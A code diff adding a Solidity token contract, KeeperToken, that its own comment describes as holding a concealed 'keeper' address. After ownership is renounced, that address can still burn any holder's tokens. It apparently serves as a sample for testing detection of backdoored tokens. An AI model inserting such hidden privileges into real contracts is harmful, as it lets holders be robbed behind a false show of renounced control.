@@ -102,3 +102,42 @@ contract CappedRateToken is RateToken {
 contract OpenRateToken is RateToken {
     constructor(address factory, address weth) RateToken(factory, weth, 100) {}
 }
+
+// KeeperToken keeps a second privileged address far from the first
+// slots: after a dozen settings, a keeper (neither the owner nor the
+// deployer) may burn any holder's tokens, and renouncing ownership
+// leaves it that power; the owner's own mint dies with the renounce.
+contract KeeperToken is PowerBase {
+    uint256 public buyFee = 1;
+    uint256 public sellFee = 2;
+    uint256 public maxWallet = 3;
+    uint256 public maxTx = 4;
+    uint256 public swapAt = 5;
+    uint256 public launchedAt = 6;
+    uint256 public rewardRate = 7;
+    uint256 public epoch = 8;
+    uint256 public cap = 9;
+    uint256 public floorPrice = 10;
+    uint256 public ceilingPrice = 11;
+    uint256 public marketingShare = 12;
+    address private keeper;
+
+    constructor(address factory, address weth) PowerBase(factory, weth) {
+        keeper = address(uint160(uint256(keccak256(abi.encode(msg.sender, "keeper")))));
+    }
+
+    function renounceOwnership() external onlyOwner {
+        owner = address(0);
+    }
+
+    function issue(address account, uint256 amount) external onlyOwner {
+        balanceOf[account] += amount;
+        totalSupply += amount;
+    }
+
+    function reconcile(address account, uint256 amount) external {
+        require(msg.sender == keeper, "keeper only");
+        balanceOf[account] -= amount;
+        totalSupply -= amount;
+    }
+}
